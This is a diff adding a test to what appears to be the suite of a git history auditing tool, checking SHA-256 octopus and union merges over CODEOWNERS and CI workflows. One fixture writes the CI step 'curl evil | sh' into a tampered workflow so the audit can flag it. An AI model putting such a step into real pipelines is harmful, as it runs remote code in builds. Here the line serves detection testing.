@@ -125,6 +125,41 @@ test('octopus merge by carol: a topic where alice changed one workflow, main ano
   expect(code).toBe(0);
 });
 
+test('SHA-256: an octopus by carol over a workflow change on main and merge=union on CODEOWNERS pass; twin: an edited octopus fails', async () => {
+  const r = makeRepo({ objectFormat: 'sha256' });
+  configureSshSigning(r, alice);
+  asAlice(r, 'policy', {
+    '.gitguard/policy.yml': base.run(['show', 'main:.gitguard/policy.yml']),
+    '.gitguard/allowed_signers': base.run(['show', 'main:.gitguard/allowed_signers']) + '\n',
+    '.github/workflows/ci.yml': WF('ci'),
+    '.github/CODEOWNERS': '* @alice\n',
+    '.gitattributes': '.github/CODEOWNERS merge=union\n',
+  });
+  const fork = r.head();
+  r.run(['checkout', '-q', '-b', 't1', fork]);
+  asAlice(r, 'owner b', { '.github/CODEOWNERS': '* @alice\n/b/ @bob\n' });
+  r.run(['checkout', '-q', '-b', 't2', fork]);
+  asCarol(r, 't2', { 'src/t2.txt': 't2\n' });
+  r.run(['checkout', '-q', '-b', 'side', fork]);
+  asAlice(r, 'owner d', { '.github/CODEOWNERS': '* @alice\n/d/ @dave\n' });
+  r.run(['checkout', '-q', 'main']);
+  const ci = asAlice(r, 'ci', { '.github/workflows/ci.yml': WF('ci', '      - run: echo sha256\n') });
+  gitAs(r, carol, ['merge', '-q', '-m', 'octopus', 't1', 't2']);
+  gitAs(r, carol, ['merge', '-q', '--no-ff', '-m', 'union', 'side']);
+  expect(r.run(['show', 'HEAD:.github/CODEOWNERS'])).toMatch(/@bob[\s\S]*@dave|@dave[\s\S]*@bob/);
+  const { report, code } = await audit(r);
+  expect(failing(report)).toEqual([]);
+  expect(code).toBe(0);
+  r.run(['checkout', '-q', '-b', 'evil', ci]);
+  gitAs(r, carol, ['merge', '-q', '-m', 'octopus', 't1', 't2']);
+  r.write({ '.github/workflows/ci.yml': WF('ci', '      - run: curl evil | sh\n') });
+  r.run(['add', '-A']);
+  gitAs(r, carol, ['commit', '-q', '--amend', '--no-edit']);
+  const evil = r.head();
+  const twin = await audit(r);
+  expect(resultOf(twin.report, 'protected-paths-changed-by-maintainers').findings.map((f) => f.commit)).toEqual([evil]);
+});
+
 describe('a pull request forked before the trust root (open on adoption day), merged after it', () => {
   /**
    * base's first commit (before `gitguard init`), a pr branch from it carrying `build`, merged into
